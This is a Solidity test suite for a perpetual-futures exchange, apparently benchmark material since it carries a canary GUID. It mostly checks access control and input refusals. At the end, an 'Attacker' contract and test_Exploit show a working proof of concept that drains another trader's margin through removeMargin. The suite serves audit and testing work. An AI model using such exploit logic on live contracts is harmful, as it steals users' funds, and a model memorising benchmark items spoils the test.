// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";
import {NonceMap} from "../../src/libraries/NonceMap.sol";

contract Refuser is IOrderListener {
    function onExecuted(uint256) external pure {
        revert("not now");
    }
}

contract Spinner is IOrderListener {
    function onExecuted(uint256) external pure {
        while (true) {}
    }
}

/// Needs most of the gas that a listener has.
contract Counter is IOrderListener {
    uint256[4] private numbers;

    function onExecuted(uint256 id) external {
        for (uint256 i = 0; i < numbers.length; i++) {
            numbers[i] = id;
        }
    }

    function counted() external view returns (bool) {
        return numbers[3] > 0;
    }
}

contract Attacker {
    function run(IPerps perps, address trader) external {
        try perps.removeMargin(trader, "ETH", true, 100_000e6, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    // --- refusals ---

    function test_RefusesStrangers() public {
        controlled(address(hub), abi.encodeCall(hub.handOver, (CEE)));
        controlled(address(hub), abi.encodeCall(hub.setOperator, (CEE, true)));
        refused(GOVERNANCE, address(perps), abi.encodeCall(perps.setOperator, (CEE, true)), Controlled.OperatorsFixed.selector);
        controlled(address(hub), abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(sources[0], sources[1], 1, 0))));
        IMarkets.Config memory config = IMarkets.Config(1e6, 0, 0.1e18, 0.05e18, true);
        controlled(address(markets), abi.encodeCall(markets.addMarket, ("ZINC", config)));
        controlled(address(markets), abi.encodeCall(markets.setMarket, (ETH, config)));
        controlled(address(markets), abi.encodeCall(markets.setOpen, (ETH, false)));
        controlled(address(insurance), abi.encodeCall(insurance.withdraw, (CEE, 1)));
        controlled(address(referrals), abi.encodeCall(referrals.setTerms, ("FAY", 0, 0)));
        controlled(address(desk), abi.encodeCall(desk.setRates, (0, 0, 0)));
        controlled(address(desk), abi.encodeCall(desk.sweep, (CEE)));
        operated(address(markets), abi.encodeCall(markets.enter, (ETH, true, 1, 1)));
        operated(address(markets), abi.encodeCall(markets.leave, (ETH, true, 1, 1)));
        operated(address(markets), abi.encodeCall(markets.settled, (ETH, 1)));
        operated(address(perps), abi.encodeCall(perps.increase, (CEE, ETH, false, 100e6, 50e6)));
        operated(address(perps), abi.encodeCall(perps.decrease, (CEE, ETH, false, 100e6)));
        operated(address(perps), abi.encodeCall(perps.seize, (ANA, ETH, true)));
        operated(address(insurance), abi.encodeCall(insurance.cover, (1)));
        operated(address(pool), abi.encodeCall(pool.pay, (1)));
        operated(address(desk), abi.encodeCall(desk.book, (CEE, 0)));
        refused(GOVERNANCE, address(hub), abi.encodeCall(hub.handOver, (address(0))), Controlled.NoController.selector);
        refused(CEE, address(keeper), abi.encodeCall(keeper.collect, ()), OrderKeeper.NotOwner.selector);
    }

    function test_RefusesFeeds() public {
        bytes4 bad = IPriceHub.BadFeed.selector;
        address at = address(hub);
        refused(GOVERNANCE, at, abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(ISource(address(0)), sources[1], 1, 0))), bad);
        refused(GOVERNANCE, at, abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(sources[0], sources[0], 1, 0))), bad);
        refused(GOVERNANCE, at, abi.encodeCall(hub.setFeed, (ETH, PriceHub.Feed(sources[0], sources[1], 1, 0.06e18))), bad);
        refused(CEE, at, abi.encodeCall(hub.quote, ("ZINC")), IPriceHub.UnknownFeed.selector);
        sources[0].setLag(301);
        refused(CEE, at, abi.encodeCall(hub.quote, (ETH)), IPriceHub.OldAnswer.selector);
        sources[0].setLag(0);
        sources[0].plan(block.timestamp, 2_061e8);
        refused(CEE, at, abi.encodeCall(hub.quote, (ETH)), IPriceHub.TooFarApart.selector);
        tell(0, 0);
        refused(CEE, at, abi.encodeCall(hub.quote, (ETH)), IPriceHub.NoAnswer.selector);
    }

    function test_RefusesSettings() public {
        address at = address(markets);
        IMarkets.Config memory config = IMarkets.Config(1e6, 0, 0.1e18, 0.05e18, true);
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, (ETH, config)), IMarkets.KnownMarket.selector);
        refused(GOVERNANCE, at, abi.encodeCall(markets.setOpen, ("ZINC", true)), IMarkets.UnknownMarket.selector);
        refused(GOVERNANCE, at, abi.encodeCall(markets.accrue, ("ZINC")), IMarkets.UnknownMarket.selector);
        bytes4 bad = IMarkets.BadConfig.selector;
        config.cap = 0;
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        (config.cap, config.maxFunding) = (1e6, 0.03e18 / uint256(1 days));
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        (config.maxFunding, config.maintenance) = (0, 0);
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        config.maintenance = 0.1e18;
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        (config.maintenance, config.initialMargin) = (0.05e18, 1e18 + 1);
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        (config.initialMargin, config.cap) = (0.1e18, 1e18 + 1);
        refused(GOVERNANCE, at, abi.encodeCall(markets.addMarket, ("ZINC", config)), bad);
        config.cap = 1e6;
        refused(GOVERNANCE, at, abi.encodeCall(markets.setMarket, (ETH, config)), bad);
        at = address(referrals);
        refused(CEE, at, abi.encodeCall(referrals.register, ("FAY")), IReferrals.CodeTaken.selector);
        refused(CEE, at, abi.encodeCall(referrals.register, ("")), IReferrals.UnknownCode.selector);
        refused(CEE, at, abi.encodeCall(referrals.useCode, ("DEE")), IReferrals.UnknownCode.selector);
        refused(FAY, at, abi.encodeCall(referrals.useCode, ("FAY")), IReferrals.OwnCode.selector);
        refused(GOVERNANCE, at, abi.encodeCall(referrals.setTerms, ("DEE", 0, 0)), IReferrals.UnknownCode.selector);
        refused(GOVERNANCE, at, abi.encodeCall(referrals.setTerms, ("FAY", 0.31e18, 0)), IReferrals.BadTerms.selector);
        refused(GOVERNANCE, at, abi.encodeCall(referrals.setTerms, ("FAY", 0, 0.31e18)), IReferrals.BadTerms.selector);
        refused(GOVERNANCE, address(desk), abi.encodeCall(desk.setRates, (0.006e18, 0, 0)), IFeeDesk.BadRates.selector);
        refused(GOVERNANCE, address(desk), abi.encodeCall(desk.setRates, (0, 0.6e18, 0.5e18)), IFeeDesk.BadRates.selector);
    }

    function test_RefusesPool() public {
        refused(CEE, address(pool), abi.encodeCall(pool.deposit, (1e6, 2e9, CEE)), ILiquidityPool.TooLittle.selector);
        refused(CEE, address(pool), abi.encodeCall(pool.request, (10e9 - 1, 0)), ILiquidityPool.TooFewShares.selector);
        refused(address(perps), address(pool), abi.encodeCall(pool.pay, (ALL)), ILiquidityPool.NotEnoughCash.selector);
        tell(0, 12_000e8);
        refused(CEE, address(pool), abi.encodeCall(pool.deposit, (1e6, 1, CEE)), ILiquidityPool.NothingLeft.selector);
    }

    /// Who pays into a new pool before anybody deposits keeps nobody from leaving it again, and nobody empties it of shares.
    function test_RefusesFirstPayments() public {
        fund(EVE, 1e6);
        usd.mint(address(this), FIRST_DOLLARS);
        deployExchange(usd);
        vm.startPrank(EVE);
        usd.approve(address(pool), ALL);
        pool.collect(1e6);
        vm.stopPrank();
        vm.startPrank(CEE);
        usd.approve(address(pool), ALL);
        uint256 shares = pool.deposit(100_000e6, 1, CEE);
        uint256 before = usd.balanceOf(CEE);
        pool.request(shares, 99_999e6);
        vm.stopPrank();
        vm.warp(block.timestamp + 1 days);
        require(pool.process(1) == 1 && usd.balanceOf(CEE) > before + 99_999e6, "left");
        require(pool.totalSupply() == FIRST_DOLLARS * 1e3 && pool.cash() >= FIRST_DOLLARS, "the first shares stay");
    }

    /// A request for more dollars than there are gets those that there are, and the next one is served when it is.
    function test_RefusesToWait() public {
        uint256 rest = pool.balanceOf(BO);
        vm.prank(CEE);
        pool.request(150_000e9, 0);
        vm.prank(BO);
        pool.request(rest, 1_000_000e6);
        vm.prank(CEE);
        pool.request(50_000e9, 0);
        vm.warp(block.timestamp + 1 days);
        tell(0, 1_500e8);
        uint256 before = usd.balanceOf(BO);
        uint256 cash = pool.cash();
        uint256 first = usd.balanceOf(CEE);
        require(pool.process(4) == 2 && pool.cash() == 0, "two requests, and all dollars");
        require(usd.balanceOf(BO) - before + usd.balanceOf(CEE) - first == cash, "paid");
        ILiquidityPool.Request memory r = pool.requestOf(2);
        require(r.shares > 0 && r.shares < rest / 5 && r.minAssets == 0, "a part is left");
        pool.process(1);
        require(pool.requestOf(2).shares == r.shares, "nothing for nothing");
        liquidator.liquidate(ANA, ETH, true);
        liquidator.liquidate(DEE, TIN, true);
        require(pool.process(4) == 2 && pool.head() == 4, "all are served");
    }

    /// A side that is larger than a cap that was lowered pays the largest funding and no more.
    function test_RefusesMoreFunding() public {
        int256 before = markets.accrue(ETH);
        vm.prank(GOVERNANCE);
        markets.setMarket(ETH, IMarkets.Config(1_000e6, 0.01e18 / uint256(1 days), 0.05e18, 0.02e18, true));
        require(lens.market(ETH).dailyFunding == int256(0.01e18 / uint256(1 days)) * 1 days, "seen by the lens");
        vm.warp(block.timestamp + 1 days);
        require(markets.accrue(ETH) - before == int256(0.01e18 / uint256(1 days)) * 1 days, "a percent in a day");
    }

    function test_RefusesOrders() public {
        address at = address(orders);
        IOrderBook.Terms memory t = terms(ETH, false, true, 1_000e6, 100e6);
        bytes4 stranger = IOrderBook.NotDelegate.selector;
        refused(CEE, at, abi.encodeCall(orders.place, (ANA, t)), stranger);
        refused(CEE, at, abi.encodeCall(orders.update, (waiting, 1, 1)), stranger);
        refused(CEE, at, abi.encodeCall(orders.cancel, (waiting)), stranger);
        refused(BO, at, abi.encodeCall(orders.update, (waiting, 0, 1)), IOrderBook.NoSize.selector);
        refused(EVE, at, abi.encodeCall(orders.execute, (waiting)), IOrderBook.NotDue.selector);
        refused(EVE, at, abi.encodeCall(orders.execute, (99)), IOrderBook.NoOrder.selector);
        vm.prank(CEE);
        uint256 id = orders.place(CEE, t);
        refused(EVE, at, abi.encodeCall(orders.execute, (id)), IOrderBook.TooEarly.selector);
        t.size = 0;
        refused(CEE, at, abi.encodeCall(orders.place, (CEE, t)), IOrderBook.NoSize.selector);
        (t.size, t.isIncrease) = (1_000e6, false);
        refused(CEE, at, abi.encodeCall(orders.place, (CEE, t)), IOrderBook.MarginOfDecrease.selector);
        (t.margin, t.tip) = (0, 1e6 - 1);
        refused(CEE, at, abi.encodeCall(orders.place, (CEE, t)), IOrderBook.TooSmallTip.selector);
        (t.isLong, t.tip, t.limit) = (true, 1e6, 0);
        vm.prank(CEE);
        id = orders.place(CEE, t);
        minute();
        refused(EVE, at, abi.encodeCall(orders.execute, (id)), IOrderBook.NothingToClose.selector);
        refused(CEE, address(router), abi.encodeCall(router.open, (t, 0, 0)), BracketRouter.NotAnIncrease.selector);
    }

    function test_RefusesTickets() public {
        address at = address(orders);
        IOrderBook.Ticket memory t = ticket(7);
        bytes memory signature = signed(t);
        t.relayFee = 6e6;
        refused(FAY, at, abi.encodeCall(orders.placeSigned, (t, signature)), IOrderBook.BadSignature.selector);
        t.relayFee = 5e6;
        orders.placeSigned(t, signature);
        refused(FAY, at, abi.encodeCall(orders.placeSigned, (t, signature)), NonceMap.NonceUsed.selector);
        t = ticket(8);
        t.deadline = block.timestamp - 1;
        signature = signed(t);
        refused(FAY, at, abi.encodeCall(orders.placeSigned, (t, signature)), IOrderBook.TicketExpired.selector);
    }

    function test_RefusesTrades() public {
        bytes4 little = IPerps.TooLittleMargin.selector;
        undone(CEE, terms(ETH, true, true, 50e6, 50e6), IPerps.TooSmall.selector);
        undone(CEE, terms(ETH, true, true, 1_000e6, 0), little);
        undone(CEE, terms(ETH, true, true, 1_000e6, 10e6), little);
        undone(CEE, terms(ETH, true, true, 1_100_000e6, 60_000e6), IMarkets.CapReached.selector);
        undone(CEE, terms(TIN, true, true, 1_000e6, 100e6), IMarkets.MarketClosed.selector);
        refused(address(orders), address(perps), abi.encodeCall(perps.decrease, (CEE, ETH, true, 1_000e6)), IPerps.NoPosition.selector);
        undone(CEE, terms(ETH, false, false, 19_950e6, 0), IPerps.TooSmall.selector);
        refused(CEE, address(perps), abi.encodeCall(perps.addMargin, (CEE, ETH, true, 1e6)), IPerps.NoPosition.selector);
        refused(ANA, address(perps), abi.encodeCall(perps.removeMargin, (ANA, ETH, true, 120_000e6, ANA)), little);
    }

    /// A listener that reverts, uses up its gas, or is none does not keep an order.
    function test_RefusesListeners() public {
        IOrderBook.Terms memory t = terms(ETH, true, true, 1_000e6, 100e6);
        address[3] memory told = [address(new Refuser()), address(new Spinner()), address(0x9999)];
        for (uint256 i = 0; i < told.length; i++) {
            t.listener = told[i];
            trade(CEE, t);
            require(perps.positionOf(CEE, ETH, true).size == (i + 1) * 1_000e6, "not executed");
        }
    }

    /// Whoever executes an order with little gas neither makes it go away nor keeps it from its listener.
    function test_RefusesLittleGas() public {
        IOrderBook.Terms memory t = terms(ETH, true, true, 1_000e6, 100e6);
        require(starved(t), "nothing is said about the gas of a trade");
        require(perps.positionOf(CEE, ETH, true).size == 1_000e6, "not executed");
        Counter counter = new Counter();
        t.listener = address(counter);
        starved(t);
        require(perps.positionOf(CEE, ETH, true).size == 2_000e6 && counter.counted(), "not told");
    }

    /// Executes an order with more and more gas, and returns whether it was refused for too little.
    function starved(IOrderBook.Terms memory t) private returns (bool seen) {
        vm.prank(CEE);
        uint256 id = orders.place(CEE, t);
        minute();
        for (uint256 limit = 100_000; limit < 1_000_000; limit += 10_000) {
            vm.prank(EVE);
            (bool done, bytes memory why) = address(orders).call{gas: limit}(abi.encodeCall(orders.execute, (id)));
            if (done) return seen;
            if (bytes4(why) == IOrderBook.TooLittleGas.selector) seen = true;
        }
    }

    function test_RefusesLosses() public {
        tell(0, 1_600e8);
        undone(ANA, terms(ETH, true, false, 10_000e6, 0), IPerps.TooLittleMargin.selector);
        tell(0, 1_000e8);
        undone(ANA, terms(ETH, true, false, 600_000e6, 0), IPerps.Underwater.selector);
        tell(0, 2_000e8);
        vm.warp(block.timestamp + 200 days);
        undone(ANA, terms(ETH, true, false, 600_000e6, 0), IPerps.Underwater.selector);
    }

    /// Funding that is more than the margin does not keep a position open whose gain reaches for it.
    function test_RefusesNobodyWhoGained() public {
        vm.warp(block.timestamp + 60 days);
        tell(0, 3_000e8);
        markets.accrue(ETH);
        IPerps.Position memory p = perps.positionOf(ANA, ETH, true);
        int256 owed = lens.position(ANA, ETH, true).owed;
        require(owed > int256(p.margin), "as much as is needed");
        refused(EVE, address(liquidator), abi.encodeCall(liquidator.liquidate, (ANA, ETH, true)), ILiquidator.IsHealthy.selector);
        uint256 expected = usd.balanceOf(ANA) + p.margin + 300_000e6 - uint256(owed);
        trade(ANA, terms(ETH, true, false, 600_000e6, 0));
        require(perps.positionOf(ANA, ETH, true).size == 0, "not closed");
        require(usd.balanceOf(ANA) < expected && usd.balanceOf(ANA) > expected - 600e6, "without fee, tip, and a minute");
    }

    /// Requires that a call is refused for this reason.
    function refused(address who, address where, bytes memory call, bytes4 reason) private {
        vm.prank(who);
        (bool done, bytes memory why) = where.call(call);
        require(!done && bytes4(why) == reason, "not refused, or for another reason");
    }

    function controlled(address where, bytes memory call) private {
        refused(CEE, where, call, Controlled.NotController.selector);
    }

    function operated(address where, bytes memory call) private {
        refused(CEE, where, call, Controlled.NotOperator.selector);
    }

    /// Requires that the trade of an order is refused for this reason, and that the order is gone afterwards with its dollars back.
    function undone(address who, IOrderBook.Terms memory t, bytes4 reason) private {
        uint256 before = usd.balanceOf(who);
        vm.prank(who);
        uint256 id = orders.place(who, t);
        minute();
        bytes memory call = t.isIncrease
            ? abi.encodeCall(perps.increase, (who, t.market, t.isLong, t.size, t.margin))
            : abi.encodeCall(perps.decrease, (who, t.market, t.isLong, t.size));
        refused(address(orders), address(perps), call, reason);
        uint256 tips = usd.balanceOf(EVE);
        vm.prank(EVE);
        orders.execute(id);
        require(orders.orderOf(id).trader == address(0) && usd.balanceOf(EVE) == tips + t.tip, "still there, or no tip");
        require(usd.balanceOf(who) == before - t.tip, "dollars are missing");
    }

    function exploit() public {
        other.run(perps, ANA);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 90_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
